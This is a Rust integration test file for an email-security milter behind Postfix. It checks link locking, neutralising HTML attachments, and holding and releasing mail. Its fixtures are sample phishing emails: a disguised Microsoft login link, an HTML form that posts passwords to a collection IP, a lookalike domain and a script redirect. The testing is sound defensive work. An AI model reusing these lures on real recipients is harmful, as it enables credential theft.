//! `harrier milter` behind a real Postfix: each test starts a private Postfix instance in a temporary
//! folder (its own configuration, queue and data folders, loopback ports only) with `smtpd_milters`
//! pointing at a `harrier milter` process, relays to an SMTP sink the test runs, and checks what the sink
//! receives. The tests need root and Debian's `postfix` package (`scripts/install-deps.sh` installs it).
//! With `CI=true` they must run; elsewhere they are skipped with the reason printed.

mod common;

use std::time::Duration;

use common::postfix::{Harness, skip_reason};
use harrier_respond::linklock::{LinkClaims, LinkKeys};
use mail_parser::{MessageParser, MimeHeaders};

const CLEAN: &str = "From: Alice Example <alice@sender.example>\r\nTo: bob@recipient.example\r\n\
Subject: Lunch on Friday\r\nDate: Fri, 04 Dec 2026 10:00:00 +0000\r\nMessage-ID: <clean-1@sender.example>\r\n\
MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\
Hi Bob,\r\n\r\nshall we have lunch on Friday at noon?\r\n\r\nAlice\r\n";

const PHISHING_LINK: &str = "From: IT Service Desk <helpdesk@sender.example>\r\nTo: bob@recipient.example\r\n\
Subject: Action required: verify your account\r\nDate: Fri, 04 Dec 2026 10:00:00 +0000\r\n\
Message-ID: <phish-1@sender.example>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n--b1\r\n\
Content-Type: text/plain; charset=us-ascii\r\n\r\n\
Your mailbox will be suspended today. Verify your password now: http://192.0.2.44/microsoft/login\r\n\
Help: https://www.example.org/help\r\n--b1\r\nContent-Type: text/html; charset=us-ascii\r\n\r\n\
<html><body><p>Your mailbox will be suspended today. Verify your password now.</p>\r\n\
<p><a href=\"http://192.0.2.44/microsoft/login\">https://login.microsoftonline.com</a></p>\r\n\
<p><a href=\"https://www.example.org/help\">Help</a></p></body></html>\r\n--b1--\r\n";

const HTML_ATTACHMENT: &str = "From: Accounts <billing@sender.example>\r\nTo: bob@recipient.example\r\n\
Subject: Invoice 4411\r\nDate: Fri, 04 Dec 2026 10:00:00 +0000\r\nMessage-ID: <attach-1@sender.example>\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b2\"\r\n\r\n--b2\r\n\
Content-Type: text/plain; charset=us-ascii\r\n\r\nPlease find the invoice attached. Sign in to view it.\r\n--b2\r\n\
Content-Type: text/html; name=\"invoice.html\"\r\nContent-Disposition: attachment; filename=\"invoice.html\"\r\n\r\n\
<html><body><form action=\"http://192.0.2.45/collect\" method=\"post\">Email <input name=\"u\">\r\n\
Password <input type=\"password\" name=\"p\"><button>Sign in</button></form></body></html>\r\n--b2--\r\n";

const SEVERAL_THREATS: &str = "From: Microsoft Security <security@sender.example>\r\nTo: bob@recipient.example\r\n\
Subject: Urgent: unusual sign-in, verify your password\r\nDate: Fri, 04 Dec 2026 10:00:00 +0000\r\n\
Message-ID: <threats-1@sender.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b3\"\r\n\r\n\
--b3\r\nContent-Type: text/html; charset=us-ascii\r\n\r\n\
<html><body><p>We detected an unusual sign-in. Your account will be suspended within 24 hours unless you verify your password immediately.</p>\r\n\
<p><a href=\"https://login-microsoft.account-verify.top/office365/login\">https://login.microsoftonline.com/verify</a></p></body></html>\r\n\
--b3\r\nContent-Type: text/html; name=\"secure-message.html\"\r\n\
Content-Disposition: attachment; filename=\"secure-message.html\"\r\n\r\n\
<html><body><form action=\"http://192.0.2.46/collect\">Password <input type=\"password\" name=\"p\"></form>\r\n\
<script>window.location='http://192.0.2.46/x'</script></body></html>\r\n--b3--\r\n";

/// Builds a message in which a colleague forwards PHISHING_LINK and HTML_ATTACHMENT, each as an attached
/// message (message/rfc822).
fn forwarded_threats() -> String {
    format!(
        "From: Carol Example <carol@recipient.example>\r\nTo: bob@recipient.example\r\nSubject: Fwd: are these real?\r\n\
Date: Fri, 04 Dec 2026 10:05:00 +0000\r\nMessage-ID: <forward-1@recipient.example>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"f1\"\r\n\r\n--f1\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\
Bob, I got these two this morning. Are they real?\r\n--f1\r\nContent-Type: message/rfc822\r\n\r\n{PHISHING_LINK}\r\n\
--f1\r\nContent-Type: message/rfc822\r\n\r\n{HTML_ATTACHMENT}\r\n--f1--\r\n"
    )
}

/// Returns the header block and the body of a delivered message.
fn split(message: &[u8]) -> (String, Vec<u8>) {
    let text = String::from_utf8_lossy(message);
    let end = text.find("\r\n\r\n").expect("a header block") + 4;
    (text[..end].to_owned(), message[end..].to_vec())
}

fn header<'a>(headers: &'a str, name: &str) -> Option<&'a str> {
    let prefix = format!("{}:", name.to_ascii_lowercase());
    headers
        .split("\r\n")
        .find(|line| line.to_ascii_lowercase().starts_with(&prefix))
        .map(|line| line[prefix.len()..].trim())
}

/// Verifies the token of the first link-lock URL in `html` with the harness's key and returns its claims.
fn first_lock_claims(html: &str) -> LinkClaims {
    let prefix = format!("{}/l/", common::postfix::LINK_BASE);
    let start = html.find(&prefix).expect("a link-lock URL") + prefix.len();
    let token: String = html[start..].chars().take_while(|c| *c != '"').collect();
    let keys = LinkKeys::new(&[(
        common::postfix::KEY_ID,
        common::postfix::KEY_SECRET.as_slice(),
    )]);
    keys.verify(&token, jiff::Timestamp::now().as_second())
        .expect("the token verifies")
}

macro_rules! harness_or_skip {
    () => {
        match skip_reason() {
            Some(reason) => {
                eprintln!("skipped: {reason}");
                return;
            }
            None => Harness::start(),
        }
    };
}

#[test]
fn clean_message_gets_headers_only() {
    let harness = harness_or_skip!();
    harness.send(CLEAN);
    let delivered = harness.receive();
    let (headers, body) = split(&delivered);
    assert_eq!(
        header(&headers, "X-Harrier-Verdict"),
        Some("clean"),
        "{headers}"
    );
    let score: u32 = header(&headers, "X-Harrier-Score")
        .and_then(|s| s.parse().ok())
        .expect("a numeric score");
    assert!(score < 25, "a clean message scores below spam: {headers}");
    assert!(header(&headers, "X-Harrier-Actions").is_none(), "{headers}");
    let (_, sent_body) = split(CLEAN.as_bytes());
    assert_eq!(body, sent_body, "the body is delivered byte for byte");
    for line in CLEAN.split("\r\n\r\n").next().unwrap().split("\r\n") {
        assert!(headers.contains(line), "header {line:?} kept: {headers}");
    }
}

#[test]
fn phishing_link_is_locked_alone() {
    let harness = harness_or_skip!();
    harness.send(PHISHING_LINK);
    let delivered = harness.receive();
    let (headers, _) = split(&delivered);
    assert!(
        header(&headers, "X-Harrier-Actions").is_some_and(|a| a.contains("lock_link done")),
        "{headers}"
    );
    assert!(header(&headers, "X-Harrier-Junk").is_none(), "{headers}");

    let message = MessageParser::default()
        .parse(&delivered)
        .expect("the delivered message parses");
    let html = message.body_html(0).expect("an HTML body").into_owned();
    let text = message.body_text(0).expect("a text body").into_owned();
    assert!(
        !html.contains("192.0.2.44"),
        "the phishing href is gone: {html}"
    );
    assert!(
        !text.contains("192.0.2.44"),
        "the phishing URL is gone from the text: {text}"
    );
    assert!(
        html.contains("href=\"https://www.example.org/help\""),
        "the help link stays: {html}"
    );
    assert!(
        text.contains("https://www.example.org/help"),
        "the help link stays in the text: {text}"
    );
    assert!(
        html.contains(">https://login.microsoftonline.com</a>"),
        "the link text stays: {html}"
    );

    let claims = first_lock_claims(&html);
    assert_eq!(claims.url, "http://192.0.2.44/microsoft/login");
    assert_eq!(claims.recipient, "bob@recipient.example");
}

#[test]
fn html_attachment_becomes_text() {
    let harness = harness_or_skip!();
    harness.send(HTML_ATTACHMENT);
    let delivered = harness.receive();
    let (headers, _) = split(&delivered);
    assert!(
        header(&headers, "X-Harrier-Actions")
            .is_some_and(|a| a.contains("neutralise_attachment done")),
        "{headers}"
    );

    let message = MessageParser::default()
        .parse(&delivered)
        .expect("the delivered message parses");
    assert_eq!(message.attachment_count(), 1);
    let attachment = message.attachment(0).expect("the replacement");
    assert_eq!(attachment.attachment_name(), Some("invoice.html.txt"));
    assert_eq!(
        attachment.content_type().and_then(|ct| ct.subtype()),
        Some("plain")
    );
    let note = String::from_utf8_lossy(attachment.contents()).into_owned();
    assert!(
        note.contains("harrier replaced the HTML attachment \"invoice.html\""),
        "{note}"
    );
    assert!(
        note.contains("html_credential_form"),
        "the note names the finding: {note}"
    );
    assert!(
        message
            .body_text(0)
            .is_some_and(|t| t.contains("Please find the invoice attached.")),
        "the text part stays"
    );
}

#[test]
fn several_threats_held_then_released() {
    let harness = harness_or_skip!();
    let reply = harness.send(SEVERAL_THREATS);
    let queue_id = reply
        .rsplit(' ')
        .next()
        .expect("a queue id")
        .trim()
        .to_owned();
    if let Err(listing) = harness.wait_in_hold(&queue_id, Duration::from_secs(20)) {
        panic!(
            "message {queue_id} is not in the hold queue; actions: {}\n{listing}",
            harness.harrier(&["actions", "list"])
        );
    }
    assert!(
        harness.try_receive(Duration::from_secs(2)).is_none(),
        "a held message is not delivered"
    );

    let actions = harness.harrier(&["actions", "list", "--json"]);
    let actions: serde_json::Value = serde_json::from_str(&actions).expect("JSON action list");
    let hold = actions
        .as_array()
        .expect("a list")
        .iter()
        .find(|a| a["action"]["kind"] == "hold_message")
        .expect("a hold action is logged");
    assert_eq!(hold["status"], "done");
    assert_eq!(hold["action"]["incident"], format!("queue:{queue_id}"));
    let id = hold["action"]["id"].as_str().expect("an id").to_owned();

    let output = harness.harrier(&["actions", "undo", &id, "--by", "analyst"]);
    assert!(output.contains("Released from hold"), "{output}");
    harness.flush();
    let delivered = harness.receive();
    let (headers, _) = split(&delivered);
    assert!(
        header(&headers, "X-Harrier-Actions").is_some_and(|a| a.contains("hold_message done")),
        "{headers}"
    );
    let message = MessageParser::default()
        .parse(&delivered)
        .expect("the released message parses");
    let html = message.body_html(0).expect("an HTML body").into_owned();
    assert!(
        !html.contains("account-verify.top"),
        "the link was locked before the hold: {html}"
    );

    let listed = harness.harrier(&["actions", "list", "--json"]);
    let listed: serde_json::Value = serde_json::from_str(&listed).expect("JSON action list");
    let status = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["action"]["id"] == id.as_str())
        .map(|a| a["status"].clone());
    assert_eq!(status, Some(serde_json::json!("undone")));
}

#[test]
fn forwarded_threats_are_rewritten() {
    let harness = harness_or_skip!();
    let sent = forwarded_threats();
    harness.send(&sent);
    let delivered = harness.receive();
    let (headers, _) = split(&delivered);
    let actions = header(&headers, "X-Harrier-Actions").unwrap_or_default();
    assert!(actions.contains("lock_link done"), "{headers}");
    assert!(actions.contains("neutralise_attachment done"), "{headers}");

    let message = MessageParser::default()
        .parse(&delivered)
        .expect("the delivered message parses");
    assert!(
        message
            .body_text(0)
            .is_some_and(|t| t.contains("Are they real?")),
        "the outer text part stays"
    );
    let phishing = message
        .attachment(0)
        .and_then(|a| a.message())
        .expect("the first attached message");
    assert_eq!(
        phishing.subject(),
        Some("Action required: verify your account")
    );
    let html = phishing.body_html(0).expect("an HTML body").into_owned();
    assert!(!html.contains("192.0.2.44"), "the phishing href is gone: {html}");
    assert!(
        html.contains("href=\"https://www.example.org/help\""),
        "the help link stays: {html}"
    );
    let claims = first_lock_claims(&html);
    assert_eq!(claims.url, "http://192.0.2.44/microsoft/login");

    let invoice = message
        .attachment(1)
        .and_then(|a| a.message())
        .expect("the second attached message");
    let attachment = invoice.attachment(0).expect("the replacement");
    assert_eq!(attachment.attachment_name(), Some("invoice.html.txt"));
    let note = String::from_utf8_lossy(attachment.contents()).into_owned();
    assert!(note.contains("html_credential_form"), "{note}");
}
